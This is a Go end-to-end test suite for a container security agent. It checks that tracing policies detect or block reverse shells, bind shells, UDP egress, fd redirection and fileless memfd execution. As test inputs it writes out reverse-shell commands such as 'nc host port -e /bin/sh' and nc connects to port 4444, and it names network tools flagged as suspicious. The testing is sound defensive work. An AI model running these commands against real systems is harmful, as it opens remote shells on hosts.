package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ocigate/ocigate/internal/testenv"
)

// unroutable is a documentation address (TEST-NET-3): seed policies act on
// non-private destinations. The containers that connect to it have their
// own network namespace with no interface up, so a connect the agent
// fails to stop ends in ENETUNREACH without a packet leaving.
const unroutable = "203.0.113.7"

func seedContainer(t *testing.T, seed, name string, args ...string) ctrResult {
	return runContainer(t, ctrOpts{Name: name, Args: args, OwnNetwork: true,
		Annotations: map[string]string{"ocigate.io/e2e-seed": seed}})
}

// Seed policy 05 in an enforce profile: nc connecting to a non-private
// address is refused and killed on every backend (the fallback's cgroup
// hook refuses and the agent kills; LSM and fmod_ret refuse and kill),
// and the event says Sigkill.
func TestSeedEnforceDeniesReverseShellConnect(t *testing.T) {
	requireE2E(t)
	res := seedContainer(t, "enforce", "seed-enforce", "/usr/bin/nc", "-w", "2", unroutable, "4444")
	if strings.Contains(res.Stderr+res.Stdout, "unreachable") {
		t.Fatalf("the connect reached the routing stage: not enforced: %v", res)
	}
	if res.ExitCode == 0 {
		t.Fatalf("nc exited 0: %v", res)
	}
	waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":                 res.ID,
		"process_kprobe.function_name":         "tcp_connect",
		"process_kprobe.action":                "KPROBE_ACTION_SIGKILL",
		"process_kprobe.policy_name":           "enforce-no-reverse-shell",
		"process_kprobe.process.binary":        "/usr/bin/nc",
		"process_kprobe.args.0.sock_arg.daddr": unroutable,
		"ocigate.profile":                      "seed-enforce",
		"ocigate.enforced":                     true,
	})
	// The same connect is reported by seed 01 (Post) in its own group.
	waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":       res.ID,
		"process_kprobe.policy_name": "detect-reverse-shell-outbound",
		"process_kprobe.action":      "KPROBE_ACTION_POST",
	})
}

// The same policy in a monitor profile: nothing is refused, the event says
// what enforce mode would have done.
func TestSeedMonitorReportsWithoutDenial(t *testing.T) {
	requireE2E(t)
	res := seedContainer(t, "monitor", "seed-monitor", "/usr/bin/nc", "-w", "2", unroutable, "4444")
	if !strings.Contains(res.Stderr+res.Stdout, "unreachable") {
		t.Fatalf("want the connect to go on to ENETUNREACH (not refused) in monitor mode: %v", res)
	}
	waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":         res.ID,
		"process_kprobe.function_name": "tcp_connect",
		"process_kprobe.action":        "KPROBE_ACTION_SIGKILL",
		"ocigate.mode":                 "monitor",
		"ocigate.enforced":             false,
		"ocigate.verdict":              "would-deny",
	})
}

// Seed 02 (bind shell): a listen on 4444 is reported, with the port where
// the seed's jq filter 09 reads it.
func TestSeedBindShellListen(t *testing.T) {
	requireE2E(t)
	res := seedContainer(t, "detect", "seed-listen", "/bin/sh", "-c", "nc -l -p 4444 & sleep 1; kill $!")
	ev := waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":                 res.ID,
		"process_kprobe.function_name":         "inet_csk_listen_start",
		"process_kprobe.policy_name":           "detect-bind-shell",
		"process_kprobe.args.0.sock_arg.sport": 4444,
		"ocigate.enforced":                     false,
	})
	out := runJQ(t, "09.jq", ev)
	if !strings.Contains(out, `"sport":4444`) {
		t.Errorf("jq 09 on the listen event: %s", out)
	}
	// A listen on another port is not reported.
	other := seedContainer(t, "detect", "seed-listen-other", "/bin/sh", "-c", "nc -l -p 4445 & sleep 1; kill $!")
	noEvent(t, other.ID, map[string]any{"ocigate.container_id": other.ID, "process_kprobe.function_name": "inet_csk_listen_start"})
}

// Seeds 03 and 06 (all protocols): a UDP connect to a non-private address
// is reported by security_socket_connect.
func TestSeedAllProtocolsUDP(t *testing.T) {
	requireE2E(t)
	res := seedContainer(t, "detect", "seed-udp", "/probe", "udpconnect", unroutable+":53")
	waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":                    res.ID,
		"process_kprobe.function_name":            "security_socket_connect",
		"process_kprobe.policy_name":              "detect-reverse-shell-all-protocols",
		"process_kprobe.args.0.sock_arg.protocol": "IPPROTO_UDP",
		"process_kprobe.args.0.sock_arg.daddr":    unroutable,
	})
}

func jsonLine(ev map[string]any) (string, error) {
	b, err := json.Marshal(ev)
	return string(b) + "\n", err
}

// runJQ runs a seed jq filter on one event.
func runJQ(t *testing.T, filter string, ev map[string]any) string {
	t.Helper()
	line, err := jsonLine(ev)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(testenv.NeedTool(t, "jq"), "-c", "-f", filepath.Join("..", "..", "internal", "agent", "testdata", "jq", filter))
	cmd.Stdin = strings.NewReader(line)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("jq %s: %v: %s", filter, err, out)
	}
	return string(out)
}

// Editing the profiles directory takes effect on a running agent: a new
// profile appears and is applied to the next container that asks for it.
func TestProfileHotReload(t *testing.T) {
	requireE2E(t)
	file := filepath.Join(profileDir, "zz-reload.yaml")
	t.Cleanup(func() { os.Remove(file); time.Sleep(500 * time.Millisecond) })
	profile := denyProfile("reload-deny-127-0-0-3", "reloaded", "ocigate.io/e2e-reload", "127.0.0.3/32", "enforce")
	if err := os.WriteFile(file, []byte(profile), 0o644); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		res := runContainer(t, ctrOpts{Name: "reload", Args: []string{"/probe", "connect", "127.0.0.3:9"},
			Annotations: map[string]string{"ocigate.io/profile": "reloaded"}})
		if strings.TrimSpace(res.Stdout) == "error: operation not permitted" {
			waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "ocigate.profile": "reloaded", "ocigate.enforced": true})
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the new profile never applied: %v\n%s", res, diagnostics(res.ID))
		}
		time.Sleep(500 * time.Millisecond)
	}
}

// A reload reaches containers that are already running: a container keeps
// connecting to 127.0.0.3 while its profile (chosen by annotation) changes
// from monitor to enforce; its connects go from refused-by-nobody to
// denied, without a restart of the agent or the container.
func TestProfileModeSwitchOnRunningContainer(t *testing.T) {
	requireE2E(t)
	file := filepath.Join(profileDir, "zz-switch.yaml")
	t.Cleanup(func() { os.Remove(file); time.Sleep(500 * time.Millisecond) })
	write := func(mode string) error {
		doc := denyProfile("switch-deny-127-0-0-3", "switching", "ocigate.io/e2e-switch", "127.0.0.3/32", mode)
		return os.WriteFile(file, []byte(doc), 0o644)
	}
	if err := write("monitor"); err != nil {
		t.Fatal(err)
	}
	waitForProfile(t, "switching")
	switched := make(chan error, 1)
	go func() {
		time.Sleep(2 * time.Second)
		switched <- write("enforce")
	}()
	res := runContainer(t, ctrOpts{Name: "switch", Annotations: map[string]string{"ocigate.io/profile": "switching"},
		Args: []string{"/bin/sh", "-c", "for i in $(seq 40); do /probe connect 127.0.0.3:9; sleep 0.2; done"}})
	if err := <-switched; err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(res.Stdout), "\n")
	first, last := lines[0], lines[len(lines)-1]
	if first != "error: connection refused" || last != "error: operation not permitted" {
		t.Fatalf("want refused (monitor) first and denied (enforce) last, got %q ... %q: %v", first, last, res)
	}
	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "ocigate.verdict": "would-deny"})
	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "ocigate.verdict": "denied", "ocigate.mode": "enforce"})
}

// waitForProfile waits until the agent lists a profile.
func waitForProfile(t *testing.T, name string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if st, err := agentStatus(); err == nil && strings.Contains(string(st), `"`+name+`"`) {
			return
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Fatalf("profile %s never loaded", name)
}

// denyProfile is a TracingPolicy refusing TCP connects to cidr and a
// WorkloadProfile in mode using it, matched by annotation key=yes.
func denyProfile(policy, profile, key, cidr, mode string) string {
	return `apiVersion: cilium.io/v1alpha1
kind: TracingPolicy
metadata:
  name: ` + policy + `
spec:
  kprobes:
  - call: tcp_connect
    args: [{index: 0, type: sock}]
    selectors:
    - matchArgs: [{index: 0, operator: DAddr, values: ["` + cidr + `"]}]
      matchActions: [{action: Override, argError: -1}]
---
apiVersion: ocigate.io/v1alpha1
kind: WorkloadProfile
metadata: {name: ` + profile + `}
spec:
  match:
    annotations: [{key: ` + key + `, equals: "yes"}]
  mode: ` + mode + `
  policies: [{name: ` + policy + `}]
  selectableBy: {all: true} # the test's own annotation chooses it
`
}

// Seeds 04, 06 and 07 (detection only): a TCP connect by /usr/bin/nc to a
// non-private address is reported by egress-all-protocols and
// egress-suspicious-binaries (nc is on its list) but not by
// detect-encrypted-reverse-shell (openssl, socat, ncat only).
func TestSeedEgressDetection(t *testing.T) {
	requireE2E(t)
	res := seedContainer(t, "detect", "seed-egress", "/usr/bin/nc", "-w", "1", unroutable, "443")
	if !strings.Contains(res.Stderr+res.Stdout, "unreachable") {
		t.Fatalf("detection profiles must not refuse: %v", res)
	}
	for _, policy := range []string{"egress-all-protocols", "egress-suspicious-binaries"} {
		waitEvent(t, res.ID, map[string]any{
			"ocigate.container_id":                 res.ID,
			"process_kprobe.policy_name":           policy,
			"process_kprobe.action":                "KPROBE_ACTION_POST",
			"process_kprobe.args.0.sock_arg.daddr": unroutable,
			"process_kprobe.args.0.sock_arg.dport": 443,
		})
	}
	noEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.policy_name": "detect-encrypted-reverse-shell"})
}

// TrackSock (seed 02's sk_alloc): a socket created by one process and
// bound by another is reported as the creator's, with the process that
// bound it as the caller.
func TestSeedTrackSockAttributesToCreator(t *testing.T) {
	requireE2E(t)
	res := seedContainer(t, "detect", "seed-tracksock", "/probe", "passbind", "4444")
	var parent, child string
	for _, l := range strings.Split(res.Stdout, "\n") {
		if f := strings.Fields(l); len(f) == 2 && f[0] == "parent" {
			parent = f[1]
		} else if len(f) == 2 && f[0] == "child" {
			child = f[1]
		}
	}
	if parent == "" || child == "" {
		t.Fatalf("probe did not report its pids: %v", res)
	}
	ev := waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":                 res.ID,
		"process_kprobe.function_name":         "inet_csk_listen_start",
		"process_kprobe.args.0.sock_arg.sport": 4444,
	})
	if ev == nil {
		return
	}
	// The probe prints pids of its own pid namespace; the event has host
	// pids: tell the two processes apart by what they run.
	proc := ev["process_kprobe"].(map[string]any)["process"].(map[string]any)
	owner := fmt.Sprint(proc["pid"].(map[string]any)["value"])
	caller := fmt.Sprint(ev["ocigate"].(map[string]any)["caller_pid"])
	if caller == "<nil>" || caller == owner {
		t.Errorf("event pid %s, caller_pid %s: want the creator as the process and the child as the caller", owner, caller)
	}
	if args := fmt.Sprint(proc["arguments"]); args != "passbind 4444" {
		t.Errorf("event process runs %q, want the creator (passbind 4444)", args)
	}
}

// FD redirection (reverse-shell profile): nc -e duplicates its socket onto
// stdin and stdout before it execs the shell; each dup2 is reported with
// the descriptors as int args, which the seeds' jq filter 07 selects.
func TestFDRedirectionReported(t *testing.T) {
	requireE2E(t)
	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
	host, port, _ := strings.Cut(ln.Addr(), ":")
	res := runContainer(t, ctrOpts{Name: "dup2", Annotations: map[string]string{"ocigate.io/profile": "reverse-shell"},
		Args: []string{"/bin/nc", host, port, "-e", "/bin/sh"}})
	ev := waitEvent(t, res.ID, map[string]any{
		"ocigate.container_id":                res.ID,
		"process_kprobe.function_name":        "dup2",
		"process_kprobe.policy_name":          "reverse-shell",
		"process_kprobe.args.1.int_arg.value": 0,
	})
	if ev == nil {
		return
	}
	if out := runJQ(t, "07.jq", ev); !strings.Contains(out, `"function_name":"dup2"`) {
		t.Errorf("jq 07 does not select the dup2 event: %q", out)
	}
	// And the shell it prepared was stopped.
	waitExecRefused(t, res.ID, shellExec(res.ID, ""))
}

// Fileless execution (reverse-shell profile): a program exec'd from a
// memfd is refused before it runs (killed, or its execveat failing, by
// the exec backend), and the memfd_create is reported. The control run
// without the hook shows the technique works here.
func TestFilelessExecKilled(t *testing.T) {
	requireE2E(t)
	ctl := runContainer(t, ctrOpts{Name: "memfd-control", NoHook: true, Args: []string{"/probe", "memfdexec"}})
	if !strings.Contains(ctl.Stdout, "fileless-ran") {
		t.Fatalf("control: the memfd exec does not work here, the test proves nothing: %v", ctl)
	}
	res := runContainer(t, ctrOpts{Name: "memfd", Annotations: map[string]string{"ocigate.io/profile": "reverse-shell"},
		Args: []string{"/probe", "memfdexec"}})
	if strings.Contains(res.Stdout, "fileless-ran") {
		t.Fatalf("the fileless program ran: %v", res)
	}
	// Where the execveat fails, the probe prints the error and exits 1.
	checkExecExit(t, res, res.ExitCode, res.Stdout, 1)
	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "memfd_create",
		"process_kprobe.action": "KPROBE_ACTION_POST", "process_kprobe.args.0.file_arg.path": "memfd:payload"})
	waitExecRefused(t, res.ID, with(shellExec(res.ID, ""), map[string]any{"process_kprobe.policy_name": "reverse-shell"}))
}

// Each dup2 is one event: the dup2 and dup3 selectors of the profile tell
// the two calls apart.
func TestDupReportedOnce(t *testing.T) {
	requireE2E(t)
	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
	host, port, _ := strings.Cut(ln.Addr(), ":")
	res := runContainer(t, ctrOpts{Name: "dup-once", Annotations: map[string]string{"ocigate.io/profile": "reverse-shell"},
		Args: []string{"/bin/nc", host, port, "-e", "/bin/sh"}})
	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "dup2"})
	noEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "dup3"})
}

// tcp_sendmsg and tcp_close: a container that sends to and closes a
// connection to port 7777 is reported for both (on this kernel the TCP
// send comes from the sock_send_length tracepoint, the close from
// cgroup/sock_release).
func TestTCPSendAndCloseReported(t *testing.T) {
	requireE2E(t)
	ln := listen(t, "127.0.0.1:7777", "")
	res := runContainer(t, ctrOpts{Name: "send-close", Annotations: map[string]string{"ocigate.io/e2e-seed": "calls"},
		Args: []string{"/bin/sh", "-c", "echo hello | nc -w 1 127.0.0.1 7777"}})
	if !ln.WaitConn(5 * time.Second) {
		t.Fatalf("the listener saw no connection: %v", res)
	}
	for _, call := range []string{"tcp_sendmsg", "tcp_close"} {
		waitEvent(t, res.ID, map[string]any{
			"ocigate.container_id":                 res.ID,
			"process_kprobe.function_name":         call,
			"process_kprobe.policy_name":           "e2e-close-and-send",
			"process_kprobe.args.0.sock_arg.daddr": "127.0.0.1",
			"process_kprobe.args.0.sock_arg.dport": 7777,
		})
	}
}
